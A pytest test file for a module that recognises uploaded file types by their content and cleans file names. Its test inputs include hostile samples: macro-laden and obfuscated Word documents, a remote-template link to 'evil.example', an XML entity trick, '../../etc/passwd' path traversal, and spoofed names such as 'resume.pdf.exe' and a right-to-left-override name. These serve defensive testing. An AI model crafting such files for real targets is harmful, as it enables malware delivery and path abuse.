"""What a file is, by its content; and its name, made safe."""

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hcprograms.leads.file_types import (
    EXTENSIONS,
    KINDS,
    LONGEST,
    ActiveContentError,
    MisleadingNameError,
    clean_name,
    list_extensions,
    recognise,
    show_name,
)
from tests.leads.files import (
    DOC,
    DOCX,
    EXE,
    HEIC,
    HTML,
    JPEG,
    ODT,
    OFFICE,
    OLE,
    PDF,
    PNG,
    RENAMED,
    SVG,
    make_docx,
    make_odt,
    pack,
)


def kind_of(content):
    kind = recognise(io.BytesIO(content))
    return kind and kind.key


@pytest.mark.parametrize(
    ("content", "key"),
    [
        (PDF, "pdf"),
        (b"\xef\xbb\xbf\r\n" + PDF, "pdf"),
        (DOCX, "docx"),
        (DOC, "doc"),
        (ODT, "odt"),
        (JPEG, "jpeg"),
        (PNG, "png"),
        (HEIC, "heic"),
        ("Déjà vu\r\n\tأهلا".encode(), "txt"),
        ("Déjà vu".encode("cp1252"), "txt"),
        ("Ada".encode("utf-16"), "txt"),
    ],
)
def test_kind_is_told_by_the_content(content, key):
    assert kind_of(content) == key


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b" \r\n",
        EXE,
        HTML,
        SVG,
        b"\xef\xbb\xbf <html>",
        b"hello <script>",
        b'<?xml version="1.0"?><svg/>',
        OLE,
        b"\x7fELF" + bytes(20),
        b"GIF89a" + bytes(20),
        b"PK\x03\x04 broken",
        pack(readme="x"),
        pack(mimetype="application/vnd.oasis.opendocument.text"),
        pack(word__document_dot_xml="x"),
        b"text with \x00 in it",
    ],
)
def test_what_is_not_on_the_list_has_no_kind(content):
    assert kind_of(content) is None


@pytest.mark.parametrize(
    "content",
    [
        make_docx(word__vbaProject_dot_bin="x"),
        make_docx(word__embeddings__tool_dot_exe="x"),
        make_docx(RENAMED, word__a_dot_bin="x"),
        make_docx(RENAMED.encode("utf-16"), word__a_dot_bin="x"),
        make_docx(RENAMED.replace("vba", "&#118;b&#x61;"), word__a_dot_bin="x"),
        make_docx("<Types ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"),
        make_docx(word___rels__document_dot_xml_dot_rels=f"<R Type='{OFFICE}/vbaProject'/>"),
        make_docx(
            word___rels__settings_dot_xml_dot_rels=(
                f"<R Type='{OFFICE}/attachedTemplate' Target = 'https://evil.example/a.dotm'/>"
            )
        ),
        DOC + "_VBA_PROJECT".encode("utf-16-le"),
        make_odt(Basic__Standard__Module1_dot_xml="x"),
    ],
)
def test_macros_are_refused_whatever_they_are_called(content):
    with pytest.raises(ActiveContentError):
        kind_of(content)


@pytest.mark.parametrize(
    "more",
    [
        f"<R Type='{OFFICE}/attachedTemplate' Target='file:///C:/Users/ada/Resume.dotx'/>",
        f"<R Type='{OFFICE}/hyperlink' Target='https://school.example' TargetMode='External'/>",
    ],
)
def test_document_made_from_a_template_of_ones_own_is_taken(more):
    assert kind_of(make_docx(word___rels__settings_dot_xml_dot_rels=more)) == "docx"


@pytest.mark.parametrize(
    "content",
    [
        make_docx(" " * 1_000_001),
        make_docx('<!DOCTYPE a [<!ENTITY v "vbaProject">]><Types/>'),
        DOCX.replace(b"<Types/>", b"<Typus/>"),
    ],
)
def test_document_whose_parts_cannot_be_read_has_no_kind(content):
    assert kind_of(content) is None


@given(st.binary(max_size=300), st.sampled_from([b"", PDF[:5], DOCX[:30], OLE[:8], ODT[:60]]))
def test_any_bytes_have_a_kind_or_none(content, start):
    file = io.BytesIO(start + content)

    recognise(file)

    assert file.tell() == 0


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("resume.pdf", "resume.pdf"),
        ("Resume.PDF", "Resume.PDF"),
        ("resume", "resume.pdf"),
        ("resume v2.1", "resume v2.1.pdf"),
        ("resume.docx", "resume.pdf"),
        ("C:\\Users\\Ada\\resume.pdf", "resume.pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("re\nsu\x00me\u202efdp.pdf", "re su me fdp.pdf"),
        ('a"b;c<d>.pdf', "a b;c d.pdf"),
        ("履歴書 أهلا 🎓.pdf", "履歴書 أهلا 🎓.pdf"),
        ("", "file.pdf"),
        (".pdf", "pdf.pdf"),
        ("con.pdf", "_con.pdf"),
        ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
    ],
)
def test_name_is_made_safe_and_ends_as_the_content_does(name, clean):
    assert clean_name(name, kind=KINDS["pdf"]) == clean


@pytest.mark.parametrize("name", ["resume.pdf.exe", "page.html", "drawing.svg", "run.BAT"])
def test_name_that_ends_like_another_kind_is_refused(name):
    with pytest.raises(MisleadingNameError):
        clean_name(name, kind=KINDS["pdf"])


@given(st.text(max_size=200), st.sampled_from(sorted(KINDS)))
def test_any_name_comes_out_short_on_one_line_and_with_its_ending(name, key):
    try:
        clean = clean_name(name, kind=KINDS[key])
    except MisleadingNameError:
        return

    assert len(clean) <= LONGEST + 1
    assert clean == show_name(clean)
    assert clean.lower().endswith(KINDS[key].extensions)


def test_extensions_are_those_of_the_groups():
    assert list_extensions(["pdf", "image"]) == [
        ".pdf",
        ".jpg",
        ".jpeg",
        ".png",
        ".heic",
        ".heif",
    ]
    assert set(list_extensions(["pdf", "word", "odt", "image", "text"])) == EXTENSIONS
